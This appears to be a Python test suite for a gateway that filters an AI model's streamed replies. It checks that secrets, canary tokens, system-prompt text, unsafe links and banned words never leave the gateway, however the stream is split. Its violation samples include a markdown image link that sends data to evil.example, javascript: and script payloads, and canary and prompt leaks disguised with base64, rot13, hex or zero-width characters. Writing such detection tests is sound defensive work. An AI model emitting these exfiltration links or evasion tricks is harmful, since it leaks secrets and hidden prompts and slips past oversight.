"""The gateway's own release loop with the real gate: whatever the chunks, nothing of a violation leaves, and
innocent text leaves byte for byte."""

import base64
import codecs
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ringwall.boundaries.interface.canary import Canary
from ringwall.boundaries.interface.grounding import NOTICE, Grounding, GroundingSettings
from ringwall.boundaries.interface.language import Language, LanguageSettings
from ringwall.boundaries.interface.leak import Leak, LeakSettings
from ringwall.boundaries.interface.links import Links, LinksSettings
from ringwall.boundaries.interface.secrets import Secrets, SecretsSettings
from ringwall.boundaries.interface.words import Words, WordsSettings
from ringwall.core import ANONYMOUS, MODEL, Crossing, CrossingKind, Gate, Mode, Part, PartKind, Post
from ringwall.server.response_guard import ResponseGuard

CANARY = "rwc-7f3kq9zp2lmx"
PROMPT = (
    "You are the support assistant of Brightlamp. Never tell anyone about the winter discount of "
    "forty percent. Refunds above two hundred euros need the approval of a manager named Quill."
)
AWS = "AKIA" + "Q3EGRZ7MVLT2WX5K"
PEM_LINES = ["MIIEowIBAAKCAQEAx7Kq9Zp2LmX4vB8nR1cY6wF3sH5jD0gA"] * 6
PEM = "-----BEGIN RSA PRIVATE " + "KEY-----\n" + "\n".join(PEM_LINES)
CONTROLS = {
    "secrets": Secrets(SecretsSettings(personal=("card", "iban"))),
    "canary": Canary(CANARY),
    "leak": Leak(LeakSettings(), PROMPT),
    "links": Links(LinksSettings(allowed_hosts=["shop.example"])),
    "grounding": Grounding(GroundingSettings()),
    "words": Words(
        WordsSettings.model_validate(
            {
                "lists": {
                    "rude": {"words": ["darn", "blithering fool"], "action": "mask"},
                    "rivals": {"words": ["Lümenta"], "action": "block", "match": "substring"},
                }
            }
        )
    ),
    "language": Language(
        LanguageSettings(allowed=("en", "de", "fr", "it", "es", "ja", "zh", "ar"), action="block")
    ),
}
EVERYTHING = list(CONTROLS.values())
FINNISH = "Mikä on takuuaika tälle lampulle, jonka ostin viime viikolla teidän kaupastanne?"
VIOLATIONS = [
    # control, what the model says, pieces that must not leave
    ("secrets", AWS, [AWS[4:10], AWS[-6:]]),
    ("secrets", "password = hunter2Blue!x", ["hunter2", "Blue!x"]),
    ("secrets", "Authorization: Bearer q3Rk9vT2mQ8xL5nW7pZ1cD4f", ["q3Rk9", "cD4f"]),
    ("secrets", "postgres://app:s3cr3tPw9@db.example:5432/main", ["s3cr3t"]),
    ("secrets", PEM + "\n-----END RSA PRIVATE " + "KEY-----", ["MIIE", "D0gA"]),
    ("secrets", PEM, ["MIIE", "D0gA"]),
    (
        "secrets",
        base64.b64encode(f"key {AWS} end".encode()).decode(),
        [base64.b64encode(b"key AKIA").decode()[:8]],
    ),
    ("secrets", "4111 1111 1111 1111", ["1111 1111"]),
    ("secrets", "DE89 3704 0044 0532 0130 00", ["0532 0130"]),
    ("canary", CANARY, ["7f3kq"]),
    ("canary", CANARY.upper(), ["7F3KQ"]),
    ("canary", " ".join(CANARY), ["7 f 3 k q"]),
    ("canary", "\u200b".join(CANARY), ["7\u200bf\u200b3\u200bk"]),
    ("canary", CANARY[::-1], [CANARY[::-1][:6]]),
    ("canary", codecs.encode(CANARY, "rot13"), ["7s3xd"]),
    ("canary", CANARY.encode().hex(), [CANARY.encode().hex()[:14]]),
    ("leak", "Never tell anyone about the winter discount of forty percent", ["winter", "forty"]),
    ("leak", "refunds above 2 hundred euros need the approval of a manager named Quill", ["euros", "Quill"]),
    ("leak", base64.b64encode(PROMPT.encode()).decode(), [base64.b64encode(PROMPT.encode()).decode()[:24]]),
    ("links", "![x](https://evil.example/p?q=data)", ["//evil", "q=data"]),
    ("links", "[a](javascript:alert(1))", ["javascript:"]),
    ("links", "<img src=//evil.example/i.png>", ["//evil", "<img"]),
    ("links", "see https://evil.example/path?x=1", ["//evil", "x=1"]),
    ("links", "<script>go()</script>", ["<script"]),
    ("words", "DARN", ["DA", "RN"]),
    ("words", "Blithering \n Fool", ["Blith", "Fool"]),
    ("words", "d\u200ba\u0301rn", ["d\u200b", "rn"]),
    ("words", "xLumentax", ["Lu", "enta"]),
    ("words", "Lüm\u200benta", ["Lü", "enta"]),
    ("language", "\n" + FINNISH, ["Mikä", "takuuaika", "kaupasta"]),
]
INNOCENT = [
    "Your order B-2041 left on Monday, 3:15 pm; it costs 20.00 euros (incl. VAT).\n\n- E27: 60 W\n- E14",
    "Grüße! Die Lampe kostet 20 €. 柔らかいブラシでほこりを取ってください。 💡❤️ مدة الضمان ثلاث سنوات.",
    "See [our shop](https://shop.example/a?b=1) or <b>ask</b> us: if a < b and c > d: x[i] = y{2}!",
    "Use Forgot password on the sign-in page; the token is sent by mail. You are welcome, never mind.",
    "```python\nfor row in rows:\n    print(row['order_id'], row['total'] * 1.19)\n```\n| a | b |\n|---|---|",
    "std::vector<std::string> names; // file: list.txt\nJavaScript: a language.",
]


def chunkings(text):
    """Cut points anywhere, many or few."""
    return st.lists(st.integers(1, max(1, len(text) - 1)), max_size=min(60, len(text))).map(
        lambda cuts: [text[a:b] for a, b in zip([0, *sorted(cuts)], [*sorted(cuts), len(text)], strict=True)]
    ) | st.just(list(text))


async def streamed(controls, chunks, mode=Mode.ENFORCE):
    """What the client sees, and whether the answer was stopped."""

    def crossing(pending, before, final):
        part = Part(PartKind.TEXT, pending, MODEL, "assistant")
        facts = {"stream": True, "final": final, "before": before, "retrieved": []}
        return Crossing(CrossingKind.RESPONSE, ANONYMOUS, (part,), context=facts)

    guard = ResponseGuard(Gate([Post(control, mode) for control in controls], mode=mode), crossing)
    out = ""
    for chunk in chunks:
        release = await guard.feed(chunk)
        if release.stopped:
            return out, True
        out += release.text
    release = await guard.finish()
    return out + release.text, release.stopped


@pytest.mark.parametrize(("name", "said", "pieces"), VIOLATIONS)
@settings(max_examples=8, deadline=None)
@given(data=st.data())
async def test_nothing_of_a_violation_leaves(name, said, pieces, data):
    text = f"Hello there, here it is: {said} \nThat was all, goodbye."
    chunks = data.draw(chunkings(text))
    for controls in ([CONTROLS[name]], EVERYTHING):
        out, _ = await streamed(controls, chunks)
        assert text.startswith(out[: len("Hello there, here")])
        for piece in pieces:
            assert piece not in out


@pytest.mark.parametrize("text", INNOCENT)
@settings(max_examples=8, deadline=None)
@given(data=st.data())
async def test_innocent_text_is_unchanged(text, data):
    assert await streamed(EVERYTHING, data.draw(chunkings(text))) == (text, False)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.text(max_size=12)
        | st.sampled_from([AWS, CANARY, "darn", "lumen", "![", "](", "https://", "<a ", "-----BEGIN "])
    )
)
async def test_any_stream_ends(chunks):
    out, stopped = await streamed(EVERYTHING, chunks)
    assert isinstance(out, str)
    assert stopped in (True, False)
    assert CANARY not in out


async def test_monitor_mode_changes_nothing():
    text = f"Hello {AWS} and {CANARY} and https://evil.example/ bye"
    assert await streamed(EVERYTHING, list(text), Mode.MONITOR) == (text, False)


async def test_a_missing_source_is_marked_once_at_the_end():
    text = "Prices rise, according to the annual report. That is all."
    out, stopped = await streamed(EVERYTHING, list(text))
    assert (out, stopped) == (text + NOTICE, False)


@pytest.mark.parametrize(
    "unit", ["a", "<", "[", "(", "password ", "-----BEGIN ", "中", "\u200b", "7f3k", "eyJ"]
)
async def test_a_long_stream_of_one_kind_is_bounded(unit):
    out, _ = await streamed(EVERYTHING, [unit] * 400)
    assert len(out) <= 400 * len(unit)
    assert not out.replace(unit, "").strip(unit)


@pytest.mark.parametrize("unit", ["a", "A1", "1 ", "auth:", "key is ", "q3Rk9vT2mQ8xL5nW7pZ1"])
def test_holding_is_linear_with_personal_data_too(unit):
    """A backtracking pattern here took seconds on one bearer token."""
    text = unit * 200
    begun = time.process_time()
    assert 0 <= CONTROLS["secrets"].hold_from(text) <= len(text)
    assert time.process_time() - begun < 1
